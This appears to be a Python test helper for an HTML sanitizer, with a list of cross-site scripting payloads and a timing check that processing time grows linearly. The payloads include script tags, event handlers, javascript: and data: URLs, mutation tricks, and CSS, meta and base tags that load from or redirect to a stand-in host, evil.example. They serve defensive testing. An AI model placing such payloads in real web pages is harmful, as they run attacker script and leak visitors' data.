"""What tries to run something, fetch something, leave the page, or take for ever."""

import time

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg onload=alert(1)>#x'/></svg>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href=' &#106;avascript:alert(1)'>x</a>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=https://evil.example><input name=x><button formaction=javascript:alert(1)>x</button></form>",
    "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example)}</style>",
    "<style>#T_a{background:url(https://evil.example/x)}</style>",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<div style='background:\\75rl(https://evil.example/x)'>x</div>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<video src=https://evil.example/x><source onerror=alert(1)></video>",
    "<img src='https://evil.example/x.png'>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<details ontoggle=alert(1) open>x</details>",
]


def grows_linearly(function, part, n=4000):
    """Say whether text eight times as long takes nearer to eight times the time than to sixty-four."""

    def seconds(text):
        started = time.perf_counter()
        function(text)
        return time.perf_counter() - started

    function(part)
    short, long = (min(seconds(part * length) for _ in range(3)) for length in (n, 8 * n))
    return long < 24 * short + 0.02  # so little that the clock says nothing
